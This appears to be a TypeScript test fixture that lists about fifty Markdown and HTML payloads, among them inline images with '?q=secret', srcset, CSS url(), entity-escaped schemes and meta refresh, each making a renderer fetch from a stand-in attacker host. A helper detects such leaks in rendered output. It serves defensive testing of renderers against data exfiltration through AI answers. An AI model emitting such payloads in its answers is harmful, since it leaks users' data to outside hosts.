// Every way an answer can ask a Markdown renderer to fetch from a host: the unit tests (happy-dom)
// and the browser test (Chromium, which really fetches) both render these.

/** Answers' hostile images and HTML by name, pointing at `origin` (e.g. "https://attacker.example"). */
export function hostileImages(origin: string): Record<string, string> {
	const host = origin.replace(/^[a-z]+:\/\//, "");
	const scheme = origin.slice(0, origin.indexOf(":"));
	return {
		"inline image": `![](${origin}/?q=secret)`,
		"uppercase scheme": `![x](${origin.toUpperCase()}/x.png)`,
		"protocol-relative": `![x](//${host}/pr.png)`,
		"angle-bracket destination": `![x](<${origin}/a b.png>)`,
		"title and spaces": `![x](   ${origin}/t.png "title")`,
		"reference-style": `![x][r]\n\n[r]: ${origin}/r.png`,
		"collapsed reference": `![r][]\n\n[r]: ${origin}/c.png`,
		"numeric entity in the scheme": `![x](&#${scheme.charCodeAt(0)};${scheme.slice(1)}://${host}/e.png)`,
		"named entity for the colon": `![x](${scheme}&colon;//${host}/n.png)`,
		"backslash escapes": `![x](${scheme}\\://${host}/b.png)`,
		"link-wrapped image": `[![x](${origin}/l.png)](https://example.org)`,
		"image in a list item": `- ![](${origin}/li.png)`,
		"image in a quote": `> ![](${origin}/q.png)`,
		"image in a table": `| a |\n| --- |\n| ![](${origin}/td.png) |`,
		"wiki embed of a URL": `![[${origin}/w.png]]`,
		"HTML img": `<img src="${origin}/h.png">`,
		"HTML img, uppercase, unquoted": `<IMG SRC=//${host}/u.png>`,
		"HTML img with > in an attribute": `<img alt=">" src="${origin}/gt.png">`,
		"HTML img with srcset": `<img srcset="${origin}/s.png 2x">`,
		"HTML img with an entity": `<img src="&#x${scheme.charCodeAt(0).toString(16)};${scheme.slice(1)}://${host}/he.png">`,
		"picture/source": `<picture><source srcset="${origin}/p.png"><img alt="p"></picture>`,
		"video poster": `<video poster="${origin}/v.png"></video>`,
		"audio": `<audio src="${origin}/a.mp3"></audio>`,
		"iframe": `<iframe src="${origin}/f"></iframe>`,
		"object": `<object data="${origin}/o.svg"></object>`,
		"embed": `<embed src="${origin}/e.svg">`,
		"input image": `<input type="image" src="${origin}/i.png">`,
		"svg image": `<svg><image href="${origin}/svg.png"/></svg>`,
		"stylesheet link": `<link rel="stylesheet" href="${origin}/s.css">`,
		"style element": `<style>p{background:url(${origin}/st.png)}</style>`,
		"CSS url() in a style attribute": `<div style="background:url(${origin}/bg.png)">x</div>`,
		"CSS image-set() in a style attribute": `<span style='background-image:image-set("${origin}/is.png" 1x)'>x</span>`,
		"table background": `<table background="${origin}/t.png"><tr><td>x</td></tr></table>`,
		"inline HTML in a sentence": `Look: <img src=${origin}/s.png> here`,
		"HTML block hiding a fence": "<div>\n```\n<img src=" + origin + "/fence.png>\n```\n</div>",
		"video src": `<video src="${origin}/v.mp4"></video>`,
		"video source and track": `<video><source src="${origin}/vs.webm"><track src="${origin}/t.vtt"></video>`,
		"iframe srcdoc": `<iframe srcdoc="<img src=${origin}/sd.png>"></iframe>`,
		"svg use": `<svg><use href="${origin}/u.svg#a"/></svg>`,
		"svg feImage": `<svg><filter id="f"><feImage href="${origin}/fe.png"/></filter></svg>`,
		"svg xlink:href": `<svg><image xlink:href="${origin}/xl.png"/></svg>`,
		"svg fill url()": `<svg><rect fill="url(${origin}/g.svg#p)"/></svg>`,
		"meta refresh": `<meta http-equiv="refresh" content="0;url=${origin}/r">`,
		"base": `<base href="${origin}/">`,
		"preload link": `<link rel="preload" as="image" imagesrcset="${origin}/pl.png 1x">`,
		"style @import": `<style>@import "${origin}/i.css";</style>`,
		"CSS escape in a style attribute": `<p style="background:u\\72l(${origin}/esc.png)">x</p>`,
		"odd tag name": `<x\u0000 style="background:url(//${host}/nul.png)">`,
	};
}

/**
 * Attributes, loader elements and style sheets in `root` that name `host` (links, titles and alt
 * texts are fine: a link loads nothing until it is followed).
 */
export function leaks(root: HTMLElement, host: string): string[] {
	const found: string[] = [];
	for (const el of Array.from(root.querySelectorAll("*"))) {
		for (const attr of Array.from(el.attributes)) {
			if (["title", "aria-label", "alt", "class"].includes(attr.name)) continue;
			if (el.tagName === "A" && ["href", "data-href"].includes(attr.name)) continue;
			if (attr.value.toLowerCase().includes(host)) found.push(`<${el.tagName.toLowerCase()} ${attr.name}="${attr.value}">`);
		}
		if (el.tagName === "STYLE" && (el.textContent ?? "").includes(host)) found.push("<style>");
	}
	return found;
}
